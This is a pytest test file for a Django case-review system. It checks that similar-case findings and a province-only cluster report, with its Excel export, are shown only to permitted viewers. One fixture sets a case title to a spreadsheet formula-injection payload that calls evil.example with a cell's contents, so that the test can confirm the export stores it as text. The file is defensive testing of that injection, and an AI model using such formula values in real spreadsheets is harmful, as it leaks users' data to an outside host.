"""What each viewer is shown of a case's similar cases, and the province's report with its Excel
export: the other case only when the viewer may open it, never anything to an enterprise."""

import io
import random

import openpyxl
import pytest
from django.urls import reverse

from bench.similarity.evalset import light_edit
from cases.enums import CaseStatus, OrganisationKind, Role
from cases.models import Campaign, Organisation
from cases.similarity.queries import similar_cases
from cases.similarity.services import index_case
from tests import factories
from tests.similarity.conftest import BASES


@pytest.fixture
def world(make_case):
    """Case A in a county of 太原, its copy B in a county of 大同; both at the county's review."""
    taiyuan_county = factories.county(factories.city("太原市"))
    datong_county = factories.county(Organisation.objects.get(kind=OrganisationKind.CITY, region="大同市"))
    first = make_case(BASES["03"], enterprise=factories.enterprise(factories.park(taiyuan_county)), status=CaseStatus.COUNTY_REVIEW,
                      title="高强度汽车用钢研发")
    second = make_case(light_edit(BASES["03"], random.Random(5)), enterprise=factories.enterprise(factories.park(datong_county)),
                       status=CaseStatus.COUNTY_REVIEW, title="=HYPERLINK(\"http://evil.example/?\"&A1,\"详情\")")
    index_case(first.pk)
    index_case(second.pk)
    return {"first": first, "second": second, "taiyuan_county": taiyuan_county,
            "county_staff": factories.user(Role.COUNTY_STAFF, organisation_=taiyuan_county),
            "province_staff": factories.user(Role.PROVINCE_STAFF, organisation_=factories.province())}


def page(client, user, case, organisation=None):
    client.force_login(user)
    url = reverse("review:case_review", args=[case.pk])
    return client.get(url + (f"?org={organisation.pk}" if organisation else ""), HTTP_ACCEPT_LANGUAGE="zh-hans")


@pytest.mark.django_db
def test_a_county_sees_that_a_case_elsewhere_is_similar_but_not_which(client, world):
    response = page(client, world["county_staff"], world["first"], world["taiyuan_county"])

    html = response.content.decode()
    assert response.status_code == 200
    assert "与其他地区的1个案例相似，省级可见" in html
    assert "HYPERLINK" not in html
    assert f"第{world['second'].pk}号" not in html


@pytest.mark.django_db
def test_the_province_sees_the_other_case_its_finding_and_the_passages_side_by_side(client, world):
    response = page(client, world["province_staff"], world["first"])

    html = response.content.decode()
    panel = similar_cases(world["first"], world["province_staff"])
    [item] = panel.shown
    [finding] = item.findings
    assert (item.case, panel.hidden) == (world["second"], 0)
    assert finding.text == f"疑似重复：与2024年第{world['second'].pk}号案例文字相似度 {finding.score:.2f}"
    assert finding.text in html
    assert "省级可见" not in html
    assert "<th>本案例</th><th>相似案例</th>" in html
    assert finding.passages[0]["mine"] in BASES["03"]
    assert f"<td>{finding.passages[0]['mine']}</td>" in html


@pytest.mark.django_db
def test_the_finding_names_the_other_case_from_its_own_side_too(world):
    panel = similar_cases(world["second"], world["province_staff"])

    assert panel.shown[0].case == world["first"]
    assert panel.shown[0].findings[0].text.startswith(f"疑似重复：与2024年第{world['first'].pk}号案例文字相似度 ")


@pytest.mark.django_db
def test_enterprises_experts_and_observers_are_shown_nothing(client, world):
    enterprise_user = factories.user(Role.ENTERPRISE_USER, enterprise_=world["first"].enterprise)
    expert = factories.user(Role.PROVINCE_EXPERT, organisation_=factories.province())
    observer = factories.user(Role.OBSERVER, organisation_=factories.province())

    client.force_login(enterprise_user)
    own_page = client.get(reverse("cases:case_detail", args=[world["first"].pk]), HTTP_ACCEPT_LANGUAGE="zh-hans")
    review_page = client.get(reverse("review:case_review", args=[world["first"].pk]))

    assert own_page.status_code == 200
    assert "相似" not in own_page.content.decode() and "疑似重复" not in own_page.content.decode()
    assert review_page.status_code == 404
    for viewer in (enterprise_user, expert, observer):
        panel = similar_cases(world["first"], viewer)
        assert (panel.shown, panel.hidden) == ([], 0)


@pytest.mark.django_db
def test_the_province_report_lists_the_cluster(client, world):
    client.force_login(world["province_staff"])

    response = client.get(reverse("review:similar_clusters"), HTTP_ACCEPT_LANGUAGE="zh-hans")

    html = response.content.decode()
    assert response.status_code == 200
    assert "群组 1：2 个案例" in html
    assert "高强度汽车用钢研发" in html and world["second"].enterprise.credit_code in html


@pytest.mark.django_db
def test_the_province_report_exports_to_excel_with_text_never_a_formula(client, world):
    client.force_login(world["province_staff"])

    response = client.get(reverse("review:similar_clusters_export"), HTTP_ACCEPT_LANGUAGE="zh-hans")

    sheet = openpyxl.load_workbook(io.BytesIO(response.content)).active
    rows = list(sheet.iter_rows(min_row=2, values_only=True))
    assert rows[0] == ("群组", "年份", "案例编号", "案例名称", "企业", "统一社会信用代码", "地区", "状态", "相似情况")
    assert [(row[0], row[1], row[2]) for row in rows[1:]] == [(1, 2024, world["first"].pk), (1, 2024, world["second"].pk)]
    formula_like = next(cell for cell in sheet["D"] if str(cell.value).startswith("=HYPERLINK"))
    assert formula_like.data_type == "s"
    assert rows[1][3] == "高强度汽车用钢研发" and rows[1][6] == "太原市"
    assert rows[1][8].startswith(f"疑似重复：与2024年第{world['second'].pk}号案例文字相似度 ")


@pytest.mark.django_db
@pytest.mark.parametrize("role", [Role.CITY_STAFF, Role.OBSERVER])
def test_the_report_is_the_provinces_alone(client, world, role):
    organisation = factories.city() if role == Role.CITY_STAFF else factories.province()
    client.force_login(factories.user(role, organisation_=organisation))

    assert client.get(reverse("review:similar_clusters")).status_code == 404
    assert client.get(reverse("review:similar_clusters_export")).status_code == 404


@pytest.mark.django_db
def test_an_earlier_campaigns_report_is_asked_by_year(client, world):
    client.force_login(world["province_staff"])

    assert client.get(reverse("review:similar_clusters") + "?year=2024").status_code == 200
    assert client.get(reverse("review:similar_clusters") + "?year=1999").status_code == 404
    assert Campaign.objects.filter(year=2024).exists()
